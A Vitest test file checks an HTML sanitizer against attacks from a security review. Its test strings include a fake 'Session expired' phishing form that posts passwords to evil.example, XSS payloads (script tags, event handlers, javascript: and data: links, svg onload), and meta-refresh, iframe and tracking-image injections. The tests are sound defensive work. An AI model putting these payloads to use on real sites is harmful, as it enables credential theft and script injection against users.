// @vitest-environment jsdom
// Each case is an attack from the security review (issue 22) or a known DOMPurify-profile gap.
import { describe, expect, it } from 'vitest';
import { createHtmlSanitizer, sanitizeHtml, sanitizeHtmlCounted } from './sanitize';

const parse = (html: string) => new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html').body;

describe('@atrium/core/sanitizeHtml', () => {
  it('regression (issue 22): the full-screen "Session expired" phishing form loses its form, inputs, button and overlay', () => {
    const phishing =
      '<style>body{visibility:hidden}.x{visibility:visible}</style>' +
      '<div class="x" style="position:fixed;inset:0;z-index:99999;background:#fff">' +
      '<h2>Session expired</h2><form action="https://evil.example/steal" method="post">' +
      '<input name="email" value="admin@demo.com"><input type="password" name="password">' +
      '<button formaction="https://evil.example/2">Sign in again</button><textarea></textarea><select><option>a</option></select>' +
      '</form></div>';
    const clean = parse(sanitizeHtml(phishing));
    expect(clean.querySelector('form, input, button, textarea, select, option, style, [style]')).toBeNull();
    expect(clean.innerHTML).not.toMatch(/evil\.example|visibility|position:fixed/);
    // the text stays readable as text
    expect(clean.textContent).toContain('Session expired');
  });

  it('drops frames, plugins, base, meta and link elements', () => {
    const clean = sanitizeHtml(
      '<iframe src="https://evil.example"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">' +
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>',
    );
    expect(clean).toBe('<p>ok</p>');
  });

  it('drops script, event handlers, javascript: and data: links, and svg with onload', () => {
    const clean = sanitizeHtml(
      '<script>alert(1)</script><p onclick="alert(2)">a</p><a href="javascript:alert(3)">b</a><a href=" JaVaScRiPt:alert(4)">c</a>' +
        '<a href="data:text/html,<script>alert(5)</script>">d</a><svg onload="alert(6)"><circle r="1"></circle></svg><math><mi>x</mi></math>',
    );
    expect(clean).not.toMatch(/script|onclick|onload|javascript|data:|<svg|<math|alert/i);
    expect(clean).toContain('<p>a</p>');
  });

  it('keeps only http(s), mailto, tel and relative links', () => {
    const doc = parse(sanitizeHtml('<a href="https://ok.example">1</a><a href="mailto:a@b.c">2</a><a href="tel:+4700">3</a><a href="/help">4</a><a href="vbscript:x">5</a><a href="ftp://x.example">6</a>'));
    expect(Array.from(doc.querySelectorAll('a')).map((a) => a.getAttribute('href'))).toEqual(['https://ok.example', 'mailto:a@b.c', 'tel:+4700', '/help', null, null]);
  });

  it('links never hand over window.opener; a new tab only when asked', () => {
    expect(sanitizeHtml('<a href="https://ok.example" target="_top">ok</a>')).toBe('<a href="https://ok.example" rel="noopener noreferrer nofollow">ok</a>');
    expect(sanitizeHtml('<a href="https://ok.example">ok</a>', { linksInNewTab: true })).toBe(
      '<a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank">ok</a>',
    );
  });

  it('parks remote images (counted, hidden, source kept aside) and keeps inline raster ones', () => {
    const dirty =
      '<img src="https://track.example/p.png" srcset="https://track.example/2x.png 2x"><img src="//track.example/q.png" alt="logo">' +
      '<img src="data:image/png;base64,AAAA" alt="inline"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">';
    const parked = sanitizeHtmlCounted(dirty);
    expect(parked.blockedImages).toBe(2);
    const [remote, relative, inline, svg] = Array.from(parse(parked.html).querySelectorAll('img'));
    expect(remote?.getAttribute('src')).toBeNull();
    expect(remote?.getAttribute('srcset')).toBeNull();
    expect(remote?.getAttribute('data-blocked-src')).toBe('https://track.example/p.png');
    expect(remote?.hidden).toBe(true);
    expect(relative?.getAttribute('data-blocked-src')).toBe('//track.example/q.png');
    expect(inline?.getAttribute('src')).toBe('data:image/png;base64,AAAA');
    expect(inline?.hidden).toBe(false);
    // an SVG data URI is never an image source, even when remote images are allowed
    expect(svg?.getAttribute('src')).toBeNull();
    const allowed = sanitizeHtmlCounted(dirty, { allowRemoteImages: true });
    expect(allowed.blockedImages).toBe(0);
    expect(allowed.html).toContain('src="https://track.example/p.png"');
    expect(allowed.html).not.toContain('data:image/svg');
  });

  it('drops data- attributes, background and media that fetch from elsewhere', () => {
    const clean = sanitizeHtml('<p data-x="1" data-blocked-src="https://t.example">a</p><table background="https://t.example/b.png"><tr><td>b</td></tr></table><video src="https://t.example/v.mp4" poster="https://t.example/p.png"></video>');
    expect(clean).not.toMatch(/data-|background|t\.example|<video/);
  });

  it('each call uses its own options: a call allowing images does not leak into the next', () => {
    sanitizeHtml('<img src="https://a.example/x.png">', { allowRemoteImages: true, linksInNewTab: true });
    expect(sanitizeHtmlCounted('<img src="https://a.example/x.png"><a href="https://a.example">a</a>')).toEqual({
      html: '<img data-blocked-src="https://a.example/x.png" hidden=""><a href="https://a.example" rel="noopener noreferrer nofollow">a</a>',
      blockedImages: 1,
    });
  });

  it('refuses to run without a DOM rather than hand back its input', () => {
    expect(() => createHtmlSanitizer({} as unknown as Parameters<typeof createHtmlSanitizer>[0])).toThrow(/no DOM/);
  });
});
